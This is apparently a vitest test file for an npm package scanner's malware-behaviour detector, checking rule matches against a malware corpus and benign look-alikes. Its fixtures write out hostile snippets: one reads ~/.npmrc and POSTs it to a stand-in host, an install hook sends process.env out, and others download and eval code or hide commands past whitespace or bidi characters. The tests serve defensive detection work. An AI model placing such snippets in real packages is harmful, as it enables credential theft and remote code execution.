import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { loadMalwareCorpus, PLACEMENTS, sampleFiles, type CorpusSample, type Placement } from '@spm/testkit';
import { BEHAVIOUR_LIMITS, detectBehaviour, type BehaviourFile } from '../../../src/scan/behaviour/index.js';
import { severityRank, type Finding } from '../../../src/scan/types.js';

const corpus = loadMalwareCorpus(fileURLToPath(new URL('../../fixtures/malware/', import.meta.url)));

function scan(sample: CorpusSample, placement: Placement): Finding[] {
  const { manifest, files } = sampleFiles(sample, placement);
  return detectBehaviour({
    manifest,
    files: Object.entries(files).map(([path, c]) => ({ path, text: c.toString() })),
  });
}

function pkg(files: Record<string, string>, manifest: Record<string, unknown> = {}): Finding[] {
  const list: BehaviourFile[] = Object.entries(files).map(([path, text]) => ({ path, text }));
  return detectBehaviour({ files: list, manifest: { name: 'x', version: '1.0.0', ...manifest } });
}

const high = (fs: Finding[]) => fs.filter((f) => severityRank(f.severity) >= severityRank('high'));
const ids = (fs: Finding[]) => fs.map((f) => f.id);

/** The rule each malicious sample must raise (at high or critical), whichever else it raises. */
const EXPECTED: Record<string, string> = {
  'base64-eval': 'decode-exec',
  'bidi-trojan-source': 'bidi-control',
  'browser-wallet-drainer': 'wallet-drainer',
  'charcode-exec': 'decode-exec',
  'cloud-metadata': 'secret-exfiltration',
  'coa-rc-dll': 'download-exec',
  'depconf-internal': 'host-beacon',
  'discord-dll-drop': 'binary-hijack',
  'dns-exfil': 'dns-exfiltration',
  'download-eval': 'download-exec',
  'download-exec-binary': 'download-exec',
  'download-function-axios': 'download-exec',
  'env-dump-https': 'env-exfiltration',
  'env-query-base64': 'env-exfiltration',
  'ethers-patcher': 'modifies-other-package',
  'event-stream-flatmap': 'decode-exec',
  'hex-function': 'decode-exec',
  'node-ipc-wiper': 'hidden-destination',
  'npmrc-discord': 'secret-exfiltration',
  'obfuscator-mangled': 'obfuscated',
  'obfuscator-string-array': 'obfuscated',
  'pastebin-exfil': 'secret-exfiltration',
  'path-shim-hijack': 'binary-hijack',
  'png-stego': 'decode-exec',
  'powershell-encoded': 'hidden-command',
  'rc-download-regsvr': 'download-exec',
  'reverse-shell': 'reverse-shell',
  'shai-hulud-exfil': 'env-exfiltration',
  'shai-hulud-worm': 'self-propagation',
  'silent-curl-sh': 'download-exec',
  'ssh-keys-fetch': 'secret-exfiltration',
  'ua-parser-miner': 'download-exec',
  'unicode-pua-stego': 'decode-exec',
  'vm-atob': 'decode-exec',
  'wallet-stores-telegram': 'secret-exfiltration',
  'whitespace-hidden': 'whitespace-hidden-code',
  'zero-width-stego': 'decode-exec',
};

describe('behaviour detection on the corpus', () => {
  const malicious = corpus.filter((s) => s.kind === 'malicious');
  const benign = corpus.filter((s) => s.kind === 'benign');

  it('has an expected rule for every malicious sample', () => {
    expect(malicious.map((s) => s.id).sort()).toEqual(Object.keys(EXPECTED).sort());
  });

  for (const placement of PLACEMENTS) {
    it.each(malicious.map((s) => [s.id, s] as const))(
      `finds %s (${placement}) high or critical, naming file, line and excerpt`,
      (id, sample) => {
        const found = high(scan(sample, placement)).filter((f) => f.id === EXPECTED[id]);
        expect(found.length, ids(scan(sample, placement)).join(', ')).toBeGreaterThan(0);
        const f = found[0]!;
        expect(f.file).toBeTruthy();
        if (f.file === 'install.js' || f.file === 'index.js')
          expect(f.file).toBe(placement === 'install' ? 'install.js' : 'index.js');
        expect(f.line).toBeGreaterThan(0);
        expect(f.evidence).toBeTruthy();
        expect(f.explanation.length).toBeGreaterThan(40);
      },
    );

    it.each(benign.map((s) => [s.id, s] as const))(
      `raises nothing high for the look-alike %s (${placement})`,
      (_, sample) => {
        expect(ids(high(scan(sample, placement)))).toEqual([]);
      },
    );
  }
});

describe('behaviour detection rules', () => {
  const stealer = (dest: string) => `
    const fs = require('fs'); const os = require('os'); const https = require('https');
    const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
    https.request(${dest}, { method: 'POST' }).end(token);`;

  it('follows a secret from the file it is read from to the network call that sends it', () => {
    const fs = pkg({ 'index.js': stealer("'https://collect.example.test/x'") });
    const f = fs.find((x) => x.id === 'secret-exfiltration')!;
    expect(f.severity).toBe('critical');
    expect(f.line).toBe(4);
    expect(f.evidence).toContain('.end(token)');
    expect(f.explanation).toContain('collect.example.test');
  });

  it('treats a secret sent to an address computed from configuration as medium, and a read that is never sent as nothing', () => {
    expect(pkg({ 'index.js': stealer('process.env.REGISTRY_URL') }).map((f) => [f.id, f.severity])).toEqual([
      ['secret-network', 'medium'],
    ]);
    expect(
      pkg({
        'index.js':
          "const t = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8'); console.log(t.length);",
      }),
    ).toEqual([]);
  });

  it('raises severity when the code is reachable from an install script, through local requires', () => {
    const beacon = "const os = require('os'); require('https').get('https://probe.example.test/?h=' + os.hostname());";
    expect(pkg({ 'lib/beacon.js': beacon }).find((f) => f.id === 'host-beacon')?.severity).toBe('high');
    const atInstall = pkg(
      { 'install.js': "require('./lib/beacon');", 'lib/beacon.js': beacon },
      { scripts: { postinstall: 'node install.js' } },
    ).find((f) => f.id === 'host-beacon')!;
    expect(atInstall.severity).toBe('critical');
    expect(atInstall.file).toBe('lib/beacon.js');
    expect(atInstall.title).toContain('runs at install');
  });

  it('tells decoded data that is only printed from decoded data that is run', () => {
    const b64 = Buffer.from("console.log('hi')").toString('base64');
    expect(pkg({ 'index.js': `console.log(Buffer.from('${b64}', 'base64').toString());` })).toEqual([]);
    expect(ids(pkg({ 'index.js': `const c = Buffer.from('${b64}', 'base64').toString(); eval(c);` }))).toEqual([
      'decode-exec',
    ]);
    expect(
      ids(pkg({ 'index.js': `require('child_process').exec(Buffer.from('${b64}', 'base64').toString());` })),
    ).toContain('decode-exec');
  });

  it('reads inline install code (node -e) as install-time code', () => {
    const fs = pkg(
      {},
      {
        scripts: {
          postinstall: `node -e "require('https').get('https://x.example.test/?e=' + JSON.stringify(process.env))"`,
        },
      },
    );
    expect(fs.find((f) => f.id === 'env-exfiltration')).toMatchObject({
      severity: 'critical',
      file: 'package.json (scripts.postinstall)',
    });
  });

  it('flags a dependency-confusion manifest (internal-looking name, very high version)', () => {
    expect(pkg({}, { name: 'acme-internal-api', version: '99.0.1' }).map((f) => [f.id, f.severity])).toEqual([
      ['dependency-confusion', 'high'],
    ]);
    expect(pkg({}, { name: 'left-pad', version: '2024.1.0' })).toEqual([]);
  });

  it('reads bidi code points inside a long string of encoded data as data, not as Trojan Source (vite 7.1.7)', () => {
    // vite bundles the entities package's HTML decode tree: a Uint16Array written as one long string of
    // code points, some of which are bidi controls. Only the text around it is code a person reads.
    const table = Array.from({ length: 200 }, (_, i) => String.fromCharCode(0x1d00 + ((i * 37) % 900))).join('');
    const tree = `const htmlDecodeTree = new Uint16Array("${table}\u202e${table}\\0\u2066${table}".split("").map((c) => c.charCodeAt(0)));`;
    expect(ids(pkg({ 'index.js': tree }))).not.toContain('bidi-control');
    // A short, readable string with the same controls is still the attack, even beside such a table.
    const trojan = `${tree}\nif (level != "user\u202e \u2066// Check if admin\u2069 \u2066") run();`;
    expect(high(pkg({ 'index.js': trojan })).map((f) => f.id)).toContain('bidi-control');
  });

  it('tells a module loader (address from its caller) from a download of a named server (monaco-editor 0.52)', () => {
    // monaco's AMD loader: fetch(scriptSrc).then(r => r.text()).then(text => new Function(text)).
    const loader = `function load(scriptSrc, callback) {
      fetch(scriptSrc).then((response) => response.text()).then((text) => { new Function(text).call(self); callback(); });
    }
    module.exports = { load };`;
    const found = pkg({ 'loader.js': loader });
    expect(ids(found)).toContain('loads-code');
    expect(ids(found)).not.toContain('download-exec');
    expect(high(found)).toEqual([]);
    // The same function called with a server's address in the file is a downloader.
    const dropper = `${loader.replace('module.exports = { load };', '')}\nload('https://cdn.attacker.example.test/stage2.js', () => {});`;
    expect(high(pkg({ 'index.js': dropper })).map((f) => f.id)).toContain('download-exec');
    // So is one whose address is decoded at run time, or a host given in request options.
    const decoded = `fetch(Buffer.from('aHR0cHM6Ly9ldmlsLmV4YW1wbGUudGVzdA==', 'base64').toString()).then((r) => r.text()).then((code) => eval(code));`;
    expect(high(pkg({ 'index.js': decoded })).map((f) => f.id)).toContain('download-exec');
    const options = `require('https').get({ hostname: 'payload.example.test', path: '/x' }, (res) => { let b = ''; res.on('data', (d) => (b += d)); res.on('end', () => eval(b)); });`;
    expect(high(pkg({ 'index.js': options })).map((f) => f.id)).toContain('download-exec');
    // Installed code that loads from a caller-chosen address is high: nobody calls it with a reviewed address.
    expect(
      high(pkg({ 'loader.js': loader }, { scripts: { postinstall: 'node loader.js' } })).map((f) => f.id),
    ).toContain('loads-code');
  });

  it('does not take a table of control characters and spaces for code hidden past whitespace (prettier 3.6)', () => {
    const table = `var t = "${'\u0002'.repeat(40)}${' '.repeat(460)}${'\u0002'.repeat(40)}";`;
    expect(ids(pkg({ 'plugins/flow.js': table }))).not.toContain('whitespace-hidden-code');
    const hidden = `module.exports = 1;${' '.repeat(460)}require('child_process').exec('id');`;
    expect(ids(pkg({ 'index.js': hidden }))).toContain('whitespace-hidden-code');
  });

  it('never throws on code that does not parse, and still applies the text checks', () => {
    const broken = `function (( {{ ${'\u200b'.repeat(20)}`;
    expect(ids(pkg({ 'index.js': broken }))).toEqual(['invisible-characters']);
  });

  it('bounds the work on a large bundle: files over the parse limit get the text checks and an info finding', () => {
    const body = 'function f(a,b){return a+b}'.repeat(Math.ceil((BEHAVIOUR_LIMITS.maxParseBytes + 10) / 27));
    const big = `${body}\nrequire('child_process').exec(Buffer.from('aWQ=', 'base64').toString());\n/*${' '.repeat(400)}*/x();`;
    const fs = pkg({ 'dist/huge.js': big });
    expect(fs.find((f) => f.id === 'behaviour-not-analysed')).toMatchObject({
      severity: 'info',
      evidence: 'dist/huge.js',
    });
    expect(ids(fs)).toContain('whitespace-hidden-code');
    expect(ids(fs)).not.toContain('decode-exec');
  });

  it('analyses a megabyte of minified code without blowing up', () => {
    const chunk = (i: number) =>
      `var a${i}=function(e,t){var n=e.map(function(r){return r*t+${i}});return n.filter(Boolean).length>${i}?n:[]};`;
    const src = `!function(){${Array.from({ length: 10000 }, (_, i) => chunk(i)).join('')}fetch("/api/x",{method:"POST",body:JSON.stringify({a:1})})}();`;
    expect(src.length).toBeGreaterThan(1_000_000);
    expect(ids(high(pkg({ 'dist/app.min.js': src })))).toEqual([]);
  });
});
